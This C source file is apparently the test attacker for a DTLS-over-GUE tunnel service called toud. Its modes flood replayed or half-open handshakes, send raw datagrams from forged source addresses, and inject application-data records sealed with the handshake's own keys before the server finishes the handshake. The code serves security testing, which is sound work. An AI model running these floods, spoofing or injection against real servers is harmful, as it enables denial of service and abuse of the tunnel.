/* attack.c - the attacker of the handshake tests: a DTLS 1.2 client on
 * memory BIOs that speaks toud's outer framing (16-byte GUE header with a
 * session ID, one record per datagram) but has no key anyone knows, and a
 * spoofer of raw datagrams.  Run it only inside a test's namespaces.
 *
 *   attack replay LOCAL DST PORT RATE SECS
 *       one cookie exchange, then the cookie-carrying ClientHello again and
 *       again, each time under a fresh session ID, RATE a second;
 *   attack fresh LOCAL DST PORT RATE SECS
 *       RATE a second a new handshake with its own cookie exchange, left
 *       half-open after the second ClientHello;
 *   attack spoof SRC SPORT DST PORT RATE SECS
 *       29-byte datagrams (GUE header + an empty handshake record header)
 *       from the forged source SRC:SPORT, through a raw socket.
 *
 * With a key and certificate (PEM files), it is a whole DTLS client:
 *
 *   attack hold LOCAL DST PORT KEY CERT GOFILE SECS
 *       one handshake, up to the client's last flight; of that flight it
 *       sends Certificate, ClientKeyExchange and CertificateVerify (the
 *       server has checked the certificate then) and holds ChangeCipherSpec
 *       and Finished back until the file GOFILE exists (at most SECS s).
 *       It prints {"parked": ...} when it starts waiting.  Then it sends
 *       them, takes what the server answers for 2 s, and sends three ICMP
 *       echo requests as compact TOU (the receiver puts in the tunnel
 *       addresses) in application-data records sealed with the
 *       handshake's own keys, whether or not the server finished it, and
 *       counts the data records that come back;
 *   attack certs LOCAL DST PORT KEY CERT RATE SECS
 *       RATE a second a whole handshake with its own cookie exchange that
 *       presents CERT and sends the whole last flight; counts how each
 *       ended (refused by an alert, completed, no answer).
 *
 * It prints one JSON object: datagrams and bytes (UDP payload) sent and
 * received, and how many ClientHellos earned a HelloVerifyRequest.
 * SIGTERM ends the attack early, with the same report: a test can run it
 * for "as long as the checks take" rather than a guessed time. */
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/bio.h>
#include <openssl/core_names.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/rand.h>
#include <openssl/ssl.h>

#define GUE_LEN 16
#define MAXDG 65536

struct stats {
	unsigned long sent, sent_bytes, rcvd, rcvd_bytes, hvr, flights;
	/* whole handshakes (hold, certs) */
	unsigned long attempts, alerts, completed, unanswered, data_sent, data_rcvd;
};

static struct stats st;
static volatile sig_atomic_t stopping;   /* SIGTERM: report and exit */
static int sock = -1;
static struct sockaddr_in dst;

static void
die(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	exit(2);
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint64_t
fresh_sid(void)
{
	uint64_t v = 0;

	while (v == 0)
		if (RAND_bytes((unsigned char *)&v, sizeof(v)) != 1)
			exit(2);
	return v;
}

static void
send_rec(uint64_t sid, const uint8_t *rec, size_t len)
{
	uint8_t d[MAXDG];
	int i;

	if (len + GUE_LEN > sizeof(d))
		return;
	d[0] = 0x03;
	d[1] = 0x3b;
	d[2] = 0x00;
	d[3] = 0x01;
	d[4] = 0x60;
	d[5] = d[6] = d[7] = 0;
	for (i = 0; i < 8; i++)
		d[8 + i] = (uint8_t)(sid >> (56 - 8 * i));
	memcpy(d + GUE_LEN, rec, len);
	if (sendto(sock, d, GUE_LEN + len, 0, (struct sockaddr *)&dst, sizeof(dst)) > 0) {
		st.sent++;
		st.sent_bytes += GUE_LEN + len;
	}
}

/* Receive for up to ms milliseconds (0: only what is there); the record of
 * the first datagram for sid goes to rec (if not NULL).  Returns its
 * length, or 0. */
static size_t
drain(int ms, uint64_t sid, uint8_t *rec, size_t cap)
{
	uint8_t d[MAXDG];
	double end = now_s() + ms / 1000.0;
	size_t got = 0;

	for (;;) {
		struct pollfd pfd = { .fd = sock, .events = POLLIN };
		int left = (int)((end - now_s()) * 1000);
		ssize_t n;
		uint64_t id = 0;
		int i;

		if (poll(&pfd, 1, got || left < 0 ? 0 : left) <= 0)
			return got;
		n = recv(sock, d, sizeof(d), MSG_DONTWAIT);
		if (n <= 0)
			continue;
		st.rcvd++;
		st.rcvd_bytes += (unsigned long)n;
		if (n < GUE_LEN + 13)
			continue;
		for (i = 0; i < 8; i++)
			id = id << 8 | d[8 + i];
		/* handshake record, HelloVerifyRequest (type 3) */
		if (d[GUE_LEN] == 22 && d[GUE_LEN + 13] == 3)
			st.hvr++;
		else if (d[GUE_LEN] == 22 && d[GUE_LEN + 13] == 2)
			st.flights++;
		if (rec && !got && id == sid && (size_t)n - GUE_LEN <= cap) {
			got = (size_t)n - GUE_LEN;
			memcpy(rec, d + GUE_LEN, got);
		}
	}
}

static SSL_CTX *
client_ctx(void)
{
	SSL_CTX *ctx = SSL_CTX_new(DTLS_client_method());

	if (!ctx || !SSL_CTX_set_min_proto_version(ctx, DTLS1_2_VERSION) ||
	    !SSL_CTX_set_max_proto_version(ctx, DTLS1_2_VERSION) ||
	    !SSL_CTX_set_cipher_list(ctx, "ECDHE-ECDSA-AES128-GCM-SHA256:"
	    "ECDHE-ECDSA-AES256-GCM-SHA384:ECDHE-ECDSA-CHACHA20-POLY1305") ||
	    !SSL_CTX_set1_groups_list(ctx, "X25519:P-256")) {
		fprintf(stderr, "attack: openssl setup failed\n");
		exit(2);
	}
	SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
	return ctx;
}

/* Run the client until it has written something; copy that out. */
static size_t
client_step(SSL *ssl, BIO *wbio, uint8_t *out, size_t cap)
{
	int n;

	SSL_do_handshake(ssl);
	ERR_clear_error();
	n = BIO_read(wbio, out, (int)cap);
	return n > 0 ? (size_t)n : 0;
}

/* One cookie exchange under sid: the second ClientHello in ch2 (its
 * length), or 0 if no HelloVerifyRequest came. */
static size_t
cookie_exchange(SSL_CTX *ctx, uint64_t sid, uint8_t *ch2, size_t cap, int wait_ms)
{
	SSL *ssl = SSL_new(ctx);
	BIO *rbio = BIO_new(BIO_s_mem()), *wbio = BIO_new(BIO_s_mem());
	uint8_t rec[MAXDG];
	size_t n, got = 0;

	if (!ssl || !rbio || !wbio)
		exit(2);
	BIO_set_mem_eof_return(rbio, -1);
	SSL_set_bio(ssl, rbio, wbio);
	SSL_set_options(ssl, SSL_OP_NO_QUERY_MTU);
	DTLS_set_link_mtu(ssl, 1400);
	SSL_set_connect_state(ssl);
	n = client_step(ssl, wbio, rec, sizeof(rec));
	if (n) {
		send_rec(sid, rec, n);
		n = drain(wait_ms, sid, rec, sizeof(rec));
		if (n) {
			BIO_write(rbio, rec, (int)n);
			got = client_step(ssl, wbio, ch2, cap);
		}
	}
	SSL_free(ssl);
	return got;
}

static void
report(const char *mode, double secs)
{
	printf("{\"mode\": \"%s\", \"seconds\": %.2f, \"sent\": %lu, \"sent_bytes\": %lu, "
	    "\"received\": %lu, \"received_bytes\": %lu, \"hello_verify\": %lu, "
	    "\"server_hellos\": %lu}\n", mode, secs, st.sent, st.sent_bytes, st.rcvd,
	    st.rcvd_bytes, st.hvr, st.flights);
}

static void
udp_open(const char *local)
{
	struct sockaddr_in la = { .sin_family = AF_INET };

	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (sock < 0)
		die("socket");
	if (inet_pton(AF_INET, local, &la.sin_addr) != 1)
		die("local address");
	if (bind(sock, (struct sockaddr *)&la, sizeof(la)) < 0)
		die("bind");
}

static int
run_handshakes(int fresh, double rate, double secs)
{
	SSL_CTX *ctx = client_ctx();
	uint8_t ch2[MAXDG];
	size_t n = 0;
	double t0 = now_s(), next = t0;

	if (!fresh && !(n = cookie_exchange(ctx, fresh_sid(), ch2, sizeof(ch2), 2000))) {
		fprintf(stderr, "attack: no HelloVerifyRequest\n");
		return 1;
	}
	while (!stopping && now_s() - t0 < secs) {
		if (fresh) {
			uint64_t sid = fresh_sid();

			n = cookie_exchange(ctx, sid, ch2, sizeof(ch2), 200);
			if (n)
				send_rec(sid, ch2, n);
		} else {
			send_rec(fresh_sid(), ch2, n);
		}
		next += 1.0 / rate;
		while (now_s() < next)
			drain((int)((next - now_s()) * 1000) + 1, 0, NULL, 0);
	}
	/* The answers (and retransmissions) that are still coming. */
	drain(0, 0, NULL, 0);
	{
		double end = now_s() + 3;

		while (now_s() < end)
			drain(100, 0, NULL, 0);
	}
	report(fresh ? "fresh" : "replay", now_s() - t0);
	SSL_CTX_free(ctx);
	return 0;
}

static uint16_t
csum(const void *p, size_t len, uint32_t sum)
{
	const uint8_t *b = p;

	while (len > 1) {
		sum += (uint32_t)b[0] << 8 | b[1];
		b += 2;
		len -= 2;
	}
	if (len)
		sum += (uint32_t)b[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static int
run_spoof(const char *src, int sport, double rate, double secs)
{
	uint8_t pk[20 + 8 + 29];
	struct iphdr *ip = (struct iphdr *)pk;
	struct udphdr *uh = (struct udphdr *)(pk + 20);
	uint8_t *pl = pk + 28;
	double t0 = now_s(), next = t0;
	int one = 1, fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0)
		die("raw socket");
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0)
		die("IP_HDRINCL");
	while (!stopping && now_s() - t0 < secs) {
		uint64_t sid = fresh_sid();
		int i;

		memset(pk, 0, sizeof(pk));
		ip->version = 4;
		ip->ihl = 5;
		ip->tot_len = htons(sizeof(pk));
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		if (inet_pton(AF_INET, src, &ip->saddr) != 1)
			die("source address");
		ip->daddr = dst.sin_addr.s_addr;
		ip->check = htons(csum(pk, 20, 0));
		uh->source = htons((uint16_t)sport);
		uh->dest = dst.sin_port;
		uh->len = htons(8 + 29);
		pl[0] = 0x03;
		pl[1] = 0x3b;
		pl[3] = 0x01;
		pl[4] = 0x60;
		for (i = 0; i < 8; i++)
			pl[8 + i] = (uint8_t)(sid >> (56 - 8 * i));
		/* an empty handshake record: type 22, DTLS 1.2, epoch 0 */
		pl[16] = 22;
		pl[17] = 0xfe;
		pl[18] = 0xfd;
		pl[24] = (uint8_t)st.sent;
		/* UDP checksum 0: allowed over IPv4 */
		if (sendto(fd, pk, sizeof(pk), 0, (struct sockaddr *)&dst, sizeof(dst)) > 0) {
			st.sent++;
			st.sent_bytes += 29;
		}
		next += 1.0 / rate;
		while (now_s() < next)
			usleep(1000);
	}
	close(fd);
	report("spoof", now_s() - t0);
	return 0;
}

/* --- a whole client (hold, certs) ------------------------------------ */

#define MAXRECS 32

struct client {
	SSL *ssl;
	BIO *rbio, *wbio;
	uint64_t sid;
};

struct recs {
	uint8_t buf[MAXDG];
	size_t off[MAXRECS], len[MAXRECS];
	unsigned n;
	size_t used;
};

static SSL_CTX *
keyed_ctx(const char *key, const char *cert)
{
	SSL_CTX *ctx = SSL_CTX_new(DTLS_client_method());

	/* One cipher: the data records are sealed here by hand. */
	if (!ctx || !SSL_CTX_set_min_proto_version(ctx, DTLS1_2_VERSION) ||
	    !SSL_CTX_set_max_proto_version(ctx, DTLS1_2_VERSION) ||
	    !SSL_CTX_set_cipher_list(ctx, "ECDHE-ECDSA-AES128-GCM-SHA256") ||
	    !SSL_CTX_set1_groups_list(ctx, "X25519:P-256") ||
	    SSL_CTX_use_certificate_chain_file(ctx, cert) != 1 ||
	    SSL_CTX_use_PrivateKey_file(ctx, key, SSL_FILETYPE_PEM) != 1 ||
	    SSL_CTX_check_private_key(ctx) != 1) {
		fprintf(stderr, "attack: cannot set up a client with %s and %s\n", key, cert);
		exit(2);
	}
	SSL_CTX_set_options(ctx, SSL_OP_NO_TICKET | SSL_OP_NO_RENEGOTIATION | SSL_OP_NO_QUERY_MTU);
	SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
	return ctx;
}

static void
client_init(struct client *c, SSL_CTX *ctx)
{
	c->ssl = SSL_new(ctx);
	c->rbio = BIO_new(BIO_s_mem());
	c->wbio = BIO_new(BIO_s_mem());
	if (!c->ssl || !c->rbio || !c->wbio)
		exit(2);
	BIO_set_mem_eof_return(c->rbio, -1);
	BIO_set_mem_eof_return(c->wbio, -1);
	SSL_set_bio(c->ssl, c->rbio, c->wbio);
	DTLS_set_link_mtu(c->ssl, 1400);
	SSL_set_connect_state(c->ssl);
	c->sid = fresh_sid();
}

/* Run the handshake one step; 1 once it is complete, -1 if it failed. */
static int
client_run(struct client *c)
{
	int r = SSL_do_handshake(c->ssl), e;

	if (r == 1)
		return 1;
	e = SSL_get_error(c->ssl, r);
	ERR_clear_error();
	return e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE ? 0 : -1;
}

/* What the client wrote, cut into its records. */
static void
client_output(struct client *c, struct recs *o)
{
	int n;

	o->n = 0;
	o->used = 0;
	while (o->used < sizeof(o->buf) &&
	    (n = BIO_read(c->wbio, o->buf + o->used, (int)(sizeof(o->buf) - o->used))) > 0)
		o->used += (size_t)n;
	for (size_t p = 0; p + 13 <= o->used && o->n < MAXRECS;) {
		size_t len = 13 + ((size_t)o->buf[p + 11] << 8 | o->buf[p + 12]);

		if (p + len > o->used)
			break;
		o->off[o->n] = p;
		o->len[o->n++] = len;
		p += len;
	}
}

static void
send_recs(const struct client *c, const struct recs *o, unsigned first, unsigned last)
{
	for (unsigned i = first; i < last && i < o->n; i++)
		send_rec(c->sid, o->buf + o->off[i], o->len[i]);
}

/* One datagram for c within ms: its record goes to the client (if feed),
 * and its content type is returned; 0 if none came. */
static int
client_recv(struct client *c, int ms, int feed)
{
	uint8_t d[MAXDG];
	double end = now_s() + ms / 1000.0;

	for (;;) {
		struct pollfd pfd = { .fd = sock, .events = POLLIN };
		int left = (int)((end - now_s()) * 1000);
		uint64_t id = 0;
		ssize_t n;

		if (left < 0 || poll(&pfd, 1, left) <= 0)
			return 0;
		n = recv(sock, d, sizeof(d), MSG_DONTWAIT);
		if (n <= 0)
			continue;
		st.rcvd++;
		st.rcvd_bytes += (unsigned long)n;
		if (n < GUE_LEN + 13)
			continue;
		for (int i = 0; i < 8; i++)
			id = id << 8 | d[8 + i];
		if (id != c->sid)
			continue;
		if (d[GUE_LEN] == 22 && d[GUE_LEN + 13] == 3)
			st.hvr++;
		if (d[GUE_LEN] == 21)
			st.alerts++;
		if (d[GUE_LEN] == 23)
			st.data_rcvd++;
		if (feed)
			BIO_write(c->rbio, d + GUE_LEN, (int)(n - GUE_LEN));
		return d[GUE_LEN];
	}
}

/* From the first ClientHello to the client's last flight, in o.  0, or -1
 * if the server did not get the client that far within ms. */
static int
client_to_last_flight(struct client *c, struct recs *o, int ms)
{
	double end = now_s() + ms / 1000.0;
	int cookie = 0;

	client_run(c);
	client_output(c, o);
	send_recs(c, o, 0, o->n);
	while (now_s() < end) {
		if (!client_recv(c, (int)((end - now_s()) * 1000) + 1, 1))
			return -1;
		if (client_run(c) < 0)
			return -1;
		client_output(c, o);
		if (!o->n)
			continue;
		if (!cookie) {          /* the ClientHello with the cookie */
			cookie = 1;
			send_recs(c, o, 0, o->n);
			continue;
		}
		st.flights++;
		return 0;
	}
	return -1;
}

/* The TLS 1.2 key block of AES-128-GCM (RFC 5246 6.3): the client's write
 * key and salt. */
static int
client_keys(struct client *c, uint8_t key[16], uint8_t salt[4])
{
	uint8_t master[48], seed[13 + 64], kb[40];
	SSL_SESSION *sess = SSL_get_session(c->ssl);
	EVP_KDF *kdf = EVP_KDF_fetch(NULL, "TLS1-PRF", NULL);
	EVP_KDF_CTX *kc = kdf ? EVP_KDF_CTX_new(kdf) : NULL;
	OSSL_PARAM prm[4];
	int ok = 0;

	memcpy(seed, "key expansion", 13);
	if (!sess || !kc || SSL_SESSION_get_master_key(sess, master, 48) != 48 ||
	    SSL_get_server_random(c->ssl, seed + 13, 32) != 32 ||
	    SSL_get_client_random(c->ssl, seed + 45, 32) != 32)
		goto out;
	prm[0] = OSSL_PARAM_construct_utf8_string(OSSL_KDF_PARAM_DIGEST, (char *)"SHA256", 0);
	prm[1] = OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SECRET, master, 48);
	prm[2] = OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SEED, seed, sizeof(seed));
	prm[3] = OSSL_PARAM_construct_end();
	if (EVP_KDF_derive(kc, kb, sizeof(kb), prm) != 1)
		goto out;
	memcpy(key, kb, 16);            /* client write key, server write key, */
	memcpy(salt, kb + 32, 4);       /* client write IV, server write IV */
	ok = 1;
out:
	EVP_KDF_CTX_free(kc);
	EVP_KDF_free(kdf);
	return ok ? 0 : -1;
}

/* An application-data record of epoch 1 with sequence seq, AES-128-GCM
 * (RFC 5288), carrying pt.  Its length, or 0. */
static size_t
seal_record(const uint8_t key[16], const uint8_t salt[4], uint64_t seq, const uint8_t *pt,
    size_t ptlen, uint8_t *out)
{
	EVP_CIPHER_CTX *cx = EVP_CIPHER_CTX_new();
	uint8_t nonce[12], aad[13];
	int n, ok;

	out[0] = 23;
	out[1] = 0xfe;
	out[2] = 0xfd;
	out[3] = 0;
	out[4] = 1;
	for (int i = 0; i < 6; i++)
		out[5 + i] = (uint8_t)(seq >> (40 - 8 * i));
	out[11] = (uint8_t)((8 + ptlen + 16) >> 8);
	out[12] = (uint8_t)(8 + ptlen + 16);
	memcpy(nonce, salt, 4);
	for (int i = 0; i < 8; i++)
		nonce[4 + i] = (uint8_t)(seq >> (56 - 8 * i));
	memcpy(out + 13, nonce + 4, 8);
	memcpy(aad, out + 3, 8);
	memcpy(aad + 8, out, 3);
	aad[11] = (uint8_t)(ptlen >> 8);
	aad[12] = (uint8_t)ptlen;
	ok = cx && EVP_EncryptInit_ex(cx, EVP_aes_128_gcm(), NULL, key, nonce) == 1 &&
	    EVP_EncryptUpdate(cx, NULL, &n, aad, sizeof(aad)) == 1 &&
	    EVP_EncryptUpdate(cx, out + 21, &n, pt, (int)ptlen) == 1 &&
	    EVP_EncryptFinal_ex(cx, out + 21 + n, &n) == 1 &&
	    EVP_CIPHER_CTX_ctrl(cx, EVP_CTRL_GCM_GET_TAG, 16, out + 21 + ptlen) == 1;
	EVP_CIPHER_CTX_free(cx);
	return ok ? 13 + 8 + ptlen + 16 : 0;
}

/* Compact TOU: the inner GUE word (protocol 1), then an ICMP echo request
 * with 32 bytes of data.  The receiver rebuilds the IP header from the
 * session's tunnel addresses; ICMP's checksum does not cover them. */
static size_t
echo_request(uint8_t *p, uint16_t seq)
{
	uint32_t sum = 0;
	size_t i, len = 8 + 32;

	p[0] = 0;
	p[1] = 1;
	p[2] = p[3] = 0;
	memset(p + 4, 0, len);
	p[4] = 8;
	p[8] = 0x7a;
	p[9] = 0x22;
	p[10] = (uint8_t)(seq >> 8);
	p[11] = (uint8_t)seq;
	for (i = 12; i < 4 + len; i++)
		p[i] = (uint8_t)i;
	for (i = 0; i < len; i += 2)
		sum += (uint32_t)p[4 + i] << 8 | p[5 + i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	p[6] = (uint8_t)(~sum >> 8);
	p[7] = (uint8_t)~sum;
	return 4 + len;
}

static int
run_hold(const char *key, const char *cert, const char *go, double secs)
{
	SSL_CTX *ctx = keyed_ctx(key, cert);
	struct client c;
	struct recs o;
	unsigned i, first_held;
	uint8_t k[16], salt[4], pt[128], rec[256];
	double t0 = now_s(), end;
	int done = 0, parked_ok, keys_ok;

	client_init(&c, ctx);
	if (client_to_last_flight(&c, &o, 3000) < 0) {
		fprintf(stderr, "attack: the server did not take the handshake to the last flight\n");
		return 1;
	}
	st.attempts++;
	/* Certificate, ClientKeyExchange, CertificateVerify now; from the
	 * ChangeCipherSpec on (CCS, then Finished in epoch 1) later. */
	for (first_held = 0; first_held < o.n; first_held++)
		if (o.buf[o.off[first_held]] == 20)
			break;
	send_recs(&c, &o, 0, first_held);
	/* The server's answers meanwhile are retransmissions; a fatal alert
	 * would show that the certificate was refused already. */
	end = now_s() + 0.3;
	while (now_s() < end)
		client_recv(&c, (int)((end - now_s()) * 1000) + 1, 0);
	parked_ok = st.alerts == 0;
	printf("{\"parked\": %s, \"session_id\": \"%016llx\", \"held\": %u}\n",
	    parked_ok ? "true" : "false", (unsigned long long)c.sid, o.n - first_held);
	end = now_s() + secs;
	while (access(go, F_OK) != 0 && now_s() < end) {
		client_recv(&c, 20, 0);
	}
	send_recs(&c, &o, first_held, o.n);
	/* The server's ChangeCipherSpec and Finished, or an alert. */
	end = now_s() + 2;
	while (now_s() < end) {
		if (!client_recv(&c, (int)((end - now_s()) * 1000) + 1, 1))
			break;
		if (!done && (done = client_run(&c)) != 0)
			break;
	}
	if (done == 1)
		st.completed++;
	/* Data under the keys this handshake made, whether or not the
	 * server completed it. */
	keys_ok = client_keys(&c, k, salt) == 0;
	for (i = 0; keys_ok && i < 3; i++) {
		size_t ptlen = echo_request(pt, (uint16_t)(i + 1));
		size_t n = seal_record(k, salt, 100 + i, pt, ptlen, rec);

		if (n) {
			send_rec(c.sid, rec, n);
			st.data_sent++;
		}
		end = now_s() + 0.3;
		while (now_s() < end)
			client_recv(&c, (int)((end - now_s()) * 1000) + 1, 0);
	}
	end = now_s() + 1;
	while (now_s() < end)
		client_recv(&c, (int)((end - now_s()) * 1000) + 1, 0);
	printf("{\"mode\": \"hold\", \"seconds\": %.2f, \"session_id\": \"%016llx\", "
	    "\"parked\": %s, \"alerts\": %lu, \"completed\": %lu, \"keys\": %s, "
	    "\"data_sent\": %lu, \"data_received\": %lu, \"sent\": %lu, \"received\": %lu}\n",
	    now_s() - t0, (unsigned long long)c.sid, parked_ok ? "true" : "false", st.alerts,
	    st.completed, keys_ok ? "true" : "false", st.data_sent, st.data_rcvd, st.sent, st.rcvd);
	SSL_free(c.ssl);
	SSL_CTX_free(ctx);
	return 0;
}

static int
run_certs(const char *key, const char *cert, double rate, double secs)
{
	SSL_CTX *ctx = keyed_ctx(key, cert);
	double t0 = now_s(), next = t0;

	while (!stopping && now_s() - t0 < secs) {
		struct client c;
		struct recs o;
		unsigned long alerts = st.alerts;
		int r = 0;

		client_init(&c, ctx);
		if (client_to_last_flight(&c, &o, 300) < 0) {
			st.unanswered++;
		} else {
			double end = now_s() + 0.3;

			st.attempts++;
			send_recs(&c, &o, 0, o.n);
			while (now_s() < end && st.alerts == alerts && r == 0) {
				if (!client_recv(&c, (int)((end - now_s()) * 1000) + 1, 1))
					break;
				r = client_run(&c);
			}
			if (r == 1)
				st.completed++;
		}
		SSL_free(c.ssl);
		next += 1.0 / rate;
		while (now_s() < next)
			drain((int)((next - now_s()) * 1000) + 1, 0, NULL, 0);
	}
	printf("{\"mode\": \"certs\", \"seconds\": %.2f, \"attempts\": %lu, \"alerts\": %lu, "
	    "\"completed\": %lu, \"unanswered\": %lu, \"hello_verify\": %lu, \"sent\": %lu, "
	    "\"received\": %lu}\n", now_s() - t0, st.attempts, st.alerts, st.completed,
	    st.unanswered, st.hvr, st.sent, st.rcvd);
	SSL_CTX_free(ctx);
	return 0;
}

static void
on_term(int sig)
{
	(void)sig;
	stopping = 1;
}

int
main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_term };
	double rate, secs;
	int dport;

	setvbuf(stdout, NULL, _IOLBF, 0);
	sigaction(SIGTERM, &sa, NULL);
	if (argc == 7 && (!strcmp(argv[1], "replay") || !strcmp(argv[1], "fresh"))) {
		dport = atoi(argv[4]);
		rate = atof(argv[5]);
		secs = atof(argv[6]);
	} else if (argc == 9 && !strcmp(argv[1], "hold")) {
		dport = atoi(argv[4]);
		rate = 1;
		secs = atof(argv[8]);
	} else if (argc == 9 && !strcmp(argv[1], "certs")) {
		dport = atoi(argv[4]);
		rate = atof(argv[7]);
		secs = atof(argv[8]);
	} else if (argc == 8 && !strcmp(argv[1], "spoof")) {
		dport = atoi(argv[5]);
		rate = atof(argv[6]);
		secs = atof(argv[7]);
	} else {
		fprintf(stderr, "usage: attack replay|fresh LOCAL DST PORT RATE SECS\n"
		    "       attack spoof SRC SPORT DST PORT RATE SECS\n"
		    "       attack hold LOCAL DST PORT KEY CERT GOFILE SECS\n"
		    "       attack certs LOCAL DST PORT KEY CERT RATE SECS\n");
		return 2;
	}
	if (rate <= 0 || secs <= 0 || dport <= 0 || dport > 65535)
		return 2;
	dst.sin_family = AF_INET;
	dst.sin_port = htons((uint16_t)dport);
	if (inet_pton(AF_INET, argv[1][0] == 's' ? argv[4] : argv[3], &dst.sin_addr) != 1)
		die("destination address");
	if (argv[1][0] == 's')
		return run_spoof(argv[2], atoi(argv[3]), rate, secs);
	udp_open(argv[2]);
	if (!strcmp(argv[1], "hold"))
		return run_hold(argv[5], argv[6], argv[7], secs);
	if (!strcmp(argv[1], "certs"))
		return run_certs(argv[5], argv[6], rate, secs);
	return run_handshakes(argv[1][0] == 'f', rate, secs);
}
